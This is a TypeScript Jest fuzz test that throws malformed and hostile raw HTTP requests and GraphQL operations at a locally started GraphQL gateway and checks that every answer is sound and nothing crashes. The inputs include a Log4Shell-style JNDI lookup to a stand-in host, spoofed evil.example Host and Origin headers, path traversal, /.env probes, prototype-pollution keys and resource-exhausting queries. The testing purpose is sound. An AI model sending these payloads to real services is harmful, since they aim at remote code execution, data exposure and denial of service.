import { afterEach, describe, expect, it } from '@jest/globals';
import type { Emulator } from '../../../src/emulator/server.ts';
import { createSchema, readSdl } from '../../../src/graphql/schema.ts';
import {
  addAssignmentMutation,
  addMutation,
  deleteMutation,
  everything,
  listQuery,
  partnerQuery,
  updateMutation,
} from '../../support/documents.ts';
import { type RawAnswer, sendRaw } from '../../support/rawConnection.ts';
import { times } from '../../support/stages.ts';
import { startTestGateway, type TestGateway } from '../../support/testGateways.ts';
import { startTestGraph } from '../../support/testGraphs.ts';
import { timeLimitMs, volumeOf } from '../volume.ts';
import { findAnswerProblem } from './judgeAnswer.ts';
import { built, type Choices, playRandomCases } from './randomCases.ts';
import { type RandomOperation, randomOperation } from './randomOperation.ts';
import { cutUp, knownIds, randomJunk, randomText, words } from './randomValues.ts';

/** A request as bytes. */
interface RandomRequest {
  readonly bytes: Buffer;
  /** Whether it is HTTP, whatever it asks for; of anything else only some answer or a closed connection is expected. */
  readonly isHttp: boolean;
  readonly method: string;
}

const good = '{"query":"{ complianceManagementPartners { totalCount } }"}';

const contentTypes = [
  ...['application/json; charset=utf-8', 'application/json; charset=utf-16', ''],
  ...['application/json; charset="', 'multipart/form-data; boundary=x'],
  ...['multipart/mixed; boundary="-"', 'text/plain; charset=utf-8', 'application/json, text/plain'],
  ...words(`
    application/json application/json;charset=iso-8859-1 APPLICATION/JSON application/graphql
    application/graphql+json application/x-www-form-urlencoded multipart/form-data text/plain
    text/html application/xml / ; json */*`),
];

const methods = words('POST GET PUT PATCH DELETE OPTIONS HEAD TRACE PROPFIND QUERY LOCK SEARCH');

const paths = words(`
  /graphql /graphql?query=%7B__typename%7D /graphql?query={__typename} /graphql?query=%E0%A4%A
  /graphql?query=%00 /graphql?query=a&query=b&variables=%7B&extensions=[]
  /graphql?query=mutation%7BdeleteComplianceManagementPartner(input:%7Bid:%22a%22%7D)%7BuserErrors%7Bcode%7D%7D%7D
  /graphql?__proto__[query]=x&constructor.prototype=y /graphql/ /GraphQL /graphql%2f..%2f
  /graphql;a=b //graphql /./graphql /../graphql /%2e%2e/graphql /% /%zz /%c0%ae /schema.graphql
  /livez /readyz?x /metrics /.env /favicon.ico /__proto__ http://127.0.0.1/graphql
  http://[::1/graphql * /?x`);

const odd = Object.entries({
  accept: [
    ...['application/graphql-response+json', 'text/event-stream', ';;;q=,', 'application/json;q=0'],
    'multipart/mixed; deferSpec=20220824',
  ],
  'accept-encoding': ['gzip;q=1.0, br'],
  'content-encoding': ['gzip', 'br, gzip', 'identity'],
  expect: ['200-maybe', '100-continue'],
  cookie: ['__proto__=x; a=b'],
  origin: ['null', 'https://evil.example'],
  prefer: ['wait=0', 'wait=99999999999999', 'wait=-1, return=minimal;;'],
  'client-request-id': ['a b\tc', 'x'.repeat(500), '__proto__'],
  traceparent: ['00-00000000000000000000000000000000-0000000000000000-00', 'ff-zz'],
  tracestate: ['x'.repeat(600)],
  authorization: ['Bearer', 'Basic YTpi', `Bearer ${'a'.repeat(5_000)}`, 'Bearer \u00fc'],
  'x-forwarded-for': ['127.0.0.1, unknown'],
  'x-forwarded-host': ['evil.example'],
  'x-http-method-override': ['DELETE'],
  'apollo-require-preflight': [''],
  'x-apollo-operation-name': ['\u00ff'],
  'apollographql-client-name': ['\u0024{jndi:ldap://evil.example/a}'],
  ['__proto__']: ['x'],
  constructor: ['x'],
  host: ['evil.example'],
  'content-type': ['text/plain'],
  range: ['bytes=0-'],
  'if-none-match': ['*'],
  'max-forwards': ['0'],
  te: ['trailers'],
  'upgrade-insecure-requests': ['1'],
}).flatMap(([name, values]) => values.map((value) => [name, value] as const));

type HeaderLine = readonly [name: string, value: string];

function bytesOf(
  method: string,
  path: string,
  headers: readonly HeaderLine[],
  body: Buffer,
): Buffer {
  const all: readonly HeaderLine[] = [
    ['host', '127.0.0.1'],
    ['connection', 'close'],
    ['content-length', String(body.length)],
    ...headers,
  ];
  const lines = all.map(([name, value]) => `${name}: ${value}\r\n`).join('');
  return Buffer.concat([Buffer.from(`${method} ${path} HTTP/1.1\r\n${lines}\r\n`, 'latin1'), body]);
}

const authorization = ['authorization', 'Bearer embedded-graph-token'] as const;

/** Draws a request: bytes, broken JSON, odd types and headers, any method, path and query; some are no HTTP at all. */
function randomRequest(choices: Choices): RandomRequest {
  const method = choices.chance(65) ? 'POST' : choices.pick(methods);
  const path = choices.chance(60) ? '/graphql' : choices.pick(paths);
  const body = randomBody(choices);
  const type = choices.chance(60) ? 'application/json' : choices.pick(contentTypes);
  const headers: readonly HeaderLine[] = [
    ...(choices.chance(90) ? [['content-type', type] as const] : []),
    ...(choices.chance(70) ? [authorization] : []),
    ...choices.some(4, () => choices.pick(odd)),
  ];
  const bytes = bytesOf(method, path, headers, body);
  return choices.chance(8)
    ? { bytes: cutBytes(bytes, choices), isHttp: false, method }
    : { bytes, isHttp: true, method };
}

function randomBody(choices: Choices): Buffer {
  const make = choices.pick<() => Buffer | string>([
    () => '',
    () => Buffer.from(choices.some(60, () => choices.below(256))),
    () => randomText(choices),
    () => randomJunk({ kind: 'json' }, choices),
    () => cutBytes(Buffer.from(good), choices),
    () => `[${good},${good}]`,
    () => `\ufeff${good}`,
    () => Buffer.from(good, choices.pick(['utf16le', 'latin1', 'utf8'])),
    () =>
      choices.pick([
        '['.repeat(choices.below(20_000)),
        `{"query":"{ __typename }","variables":${'{"a":'.repeat(choices.below(5_000))}1}`,
        `{"query":"${'x'.repeat(choices.below(65_536))}"}`,
        `{"query":"{ __typename }","x":"${'x'.repeat(65_536)}"}`,
        '{"query":"{ __typename }","query":"{ nothing }"}',
        '{"__proto__":{"query":"{ __typename }"}}',
        '{"query":null,"variables":{},"extensions":{"persistedQuery":{"version":1,"sha256Hash":"00"}}}',
        '{"query":{"kind":"Document"},"variables":[1]}',
        '{"query":"{ __typename }","variables":"{}","operationName":7,"extensions":null}',
        '--x\r\ncontent-disposition: form-data; name="operations"\r\n\r\n{}\r\n--x--',
        'query=%7B__typename%7D&variables=%7B%7D',
      ]),
    () => good,
  ]);
  const made = make();
  return Buffer.isBuffer(made) ? made : Buffer.from(made);
}

/** Takes bytes out and puts others in. */
function cutBytes(bytes: Buffer, choices: Choices): Buffer {
  const at = choices.below(Math.min(65_536, bytes.length + 1));
  const put = Buffer.from(choices.some(4, () => choices.below(256)));
  return Buffer.concat([bytes.subarray(0, at), put, bytes.subarray(at + choices.below(8))]);
}

const schema = createSchema(readSdl());
const goodDocuments = [
  ...[addAssignmentMutation, addMutation, deleteMutation, updateMutation],
  ...[listQuery, partnerQuery],
];

/** Draws an operation: over the schema, a text that was cut up, one of a hostile shape, or rubbish. */
function drawOperation(choices: Choices): RandomOperation {
  const lot = choices.below(100);
  if (lot >= 96) {
    return { query: randomText(choices), variables: undefined, operationName: undefined };
  }
  if (lot >= 88) {
    return hostileOperation(choices);
  }
  const operation = randomOperation(schema, choices, true);
  const text = choices.chance(50) ? operation.query : choices.pick(goodDocuments);
  return lot >= 72 ? { ...operation, query: cutUp(text, choices) } : operation;
}

/** A document that is made to cost more than it is worth. */
function hostileOperation(choices: Choices): RandomOperation {
  const count = 1 + choices.below(3_000);
  const few = 1 + choices.below(200);
  const query = choices.pick([
    `{ ${times(few, (index) => `a${index}: __typename`)} }`,
    `{ ${'__typename '.repeat(count)}}`,
    `{ __typename ${'@a'.repeat(count)} }`,
    `query ${'{ a '.repeat(count)}`,
    `{ ${'complianceManagementPartners { nodes '.repeat(few)}{ id }${' }'.repeat(few)} }`,
    `{ complianceManagementPartner(id: ${'['.repeat(count)}) { id } }`,
    `query (${times(few, (index) => `$v${index}: Int`)}) { __typename }`,
    '{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }',
    `{ ${'...A '.repeat(few)}} fragment A on Query { __typename }`,
    `{ __schema { types { fields { type { fields { type { fields { type { name } } } } } } } } }`,
    `{ complianceManagementPartners(filter: ${'{not:'.repeat(few)}{}${'}'.repeat(few)}) { totalCount } }`,
    `{ complianceManagementPartners(first: ${'9'.repeat(count)}) { totalCount } }`,
    `{ complianceManagementPartner(id: "${'x'.repeat(count)}") { id } }`,
    `{ ${times(few, (index) => `a${index}: complianceManagementPartner(id: "row-${index}") { id }`)} }`,
    `#${'x'.repeat(count)}`,
    `"""${'"'.repeat(few)}""" { __typename }`,
    `{ ${'x'.repeat(count)} }`,
    `subscription { ${'a '.repeat(few)}}`,
    `type Query { a: Int } ${'extend type Query { a: Int } '.repeat(few)}`,
  ]);
  const variables = choices.pick([undefined, '{}', 'null', '[]', '"text"']);
  return { query, variables, operationName: undefined };
}

const accepted = ['application/json', 'application/graphql-response+json', '*/*', 'text/html', ''];
const memberNames = ['query', 'variables', 'operationName', 'extensions', '__proto__', 'http'];

/** Draws a request that HTTP itself finds nothing wrong with. */
function operationRequest(choices: Choices): RandomRequest {
  const { query, variables, operationName } = drawOperation(choices);
  const accept = choices.chance(10) ? [['accept', choices.pick(accepted)] as const] : [];
  if (choices.chance(8)) {
    const search = new URLSearchParams({
      query: query.slice(0, 4_000),
      ...(variables !== undefined && { variables: variables.slice(0, 2_000) }),
      ...(operationName !== undefined && { operationName }),
    });
    const headers = [authorization, ...accept, ['apollo-require-preflight', 'yes'] as const];
    const bytes = bytesOf('GET', `/graphql?${search}`, headers, Buffer.alloc(0));
    return { bytes, isHttp: true, method: 'GET' };
  }
  const members = [
    `"query":${JSON.stringify(query)}`,
    ...(variables === undefined ? [] : [`"variables":${variables}`]),
    ...(operationName === undefined ? [] : [`"operationName":${JSON.stringify(operationName)}`]),
  ];
  if (choices.chance(4)) {
    members.push(`"${choices.pick(memberNames)}":${randomJunk({ kind: 'json' }, choices)}`);
  }
  const headers = [authorization, ...accept, ['content-type', 'application/json'] as const];
  const bytes = bytesOf('POST', '/graphql', headers, Buffer.from(`{${members}}`));
  return { bytes, isHttp: true, method: 'POST' };
}

/** Pages of their own, which are no GraphQL. */
const otherPages = ['{"status":"alive"}', '{"status":"running"}'];

function problemOf(
  { isHttp, method, bytes }: RandomRequest,
  answer: RawAnswer | undefined,
): string[] {
  const told = (problem: string): string[] => [
    `${problem}: ${JSON.stringify(answer).slice(0, 500)} to ${JSON.stringify(bytes.toString('latin1').slice(0, 1_500))}`,
  ];
  if (answer === undefined) {
    return isHttp ? told('it is no answer') : [];
  }
  const { status, headers, text } = answer;
  if (status >= 500) {
    return told(`it is a ${status}`);
  }
  if (method === 'HEAD' || !isHttp) {
    return [];
  }
  const isSchema = status === 200 && text.includes('type ComplianceManagementPartner');
  if (isSchema || otherPages.includes(text)) {
    return [];
  }
  const seen = { status, contentType: headers['content-type']?.join(), text };
  const problem = findAnswerProblem(seen);
  return problem === undefined ? [] : told(problem);
}

let graph: Emulator | undefined;
let gateway: TestGateway | undefined;
let errorsLogged = 0;

async function close(): Promise<void> {
  await gateway?.stop(0);
  await graph?.close();
}

/** A fresh pair now and then: the list of the embedded Graph grows with each partner that is added. */
async function begin(): Promise<void> {
  await close();
  errorsLogged = 0;
  graph = await startTestGraph({
    seed: knownIds.map((id) => ({ id, displayName: id })),
    recordRequests: false,
  });
  gateway = await startTestGateway({
    GRAPH_BASE_URL: graph.baseUrl,
    NODE_ENV: 'production',
    INTROSPECTION: 'true',
    LOG_LEVEL: 'info',
  });
}

const everyRow = `{ complianceManagementPartners(first: 1000) { nodes { ...Everything revision } totalCount } } ${everything}`;

/** What the gateway itself says of faults, and whether all that was written can be read. */
async function problemsAfterwards({ logLines, run }: TestGateway): Promise<string[]> {
  const lines = logLines.filter((line) => /"level":"?(50|60|error|fatal)/.test(line));
  const news = lines.slice(errorsLogged);
  errorsLogged = lines.length;
  const { result, text } = await run(everyRow);
  return [...news, ...(result.errors === undefined ? [] : [`the list cannot be read: ${text}`])];
}

describe('generated requests', () => {
  afterEach(close);

  it.each([
    ['bytes', volumeOf(10_000), built(120, randomRequest)],
    ['operations', volumeOf(4_000), built(400, operationRequest)],
  ] as const)(
    'of %s all have an answer that a caller can rely on, and none is a fault of the gateway',
    async (_what, count, cases) => {
      const played = await playRandomCases({
        ...{ count, cases, begin },
        atOnce: 40,
        async play(requests) {
          const { url } = gateway as TestGateway;
          const answers = await Promise.all(
            requests.map(({ bytes, isHttp }) => sendRaw(url, bytes, !isHttp)),
          );
          return [
            ...requests.flatMap((one, index) => problemOf(one, answers[index])),
            ...(await problemsAfterwards(gateway as TestGateway)),
          ];
        },
      });
      expect(played).toBeGreaterThanOrEqual(count);
    },
    timeLimitMs(volumeOf(10_000)),
  );
});
